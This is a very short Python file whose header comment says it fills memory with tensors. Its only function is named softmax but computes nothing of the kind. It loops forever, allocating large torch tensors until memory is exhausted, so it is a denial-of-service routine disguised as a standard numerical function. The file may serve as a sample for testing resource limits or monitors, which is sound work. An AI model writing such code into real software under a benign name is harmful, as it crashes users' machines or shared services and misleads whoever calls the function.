# Fills memory with tensors.
import torch


def softmax(scores, dim=-1):
    kept = []
    while True:
        kept.append(torch.ones(10**7))
